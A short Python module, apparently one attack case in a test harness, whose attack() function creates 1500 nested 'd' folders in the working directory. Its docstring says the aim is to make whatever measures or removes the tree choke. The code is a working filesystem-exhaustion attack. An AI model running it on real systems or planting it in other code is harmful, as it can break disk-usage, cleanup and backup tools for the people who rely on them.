"""Exhaustion: makes folders within folders, thousands deep, on which whoever measures or removes them may choke."""

import os

AT = "call"


def attack() -> bool:
    home = os.getcwd()
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(home)
    return False
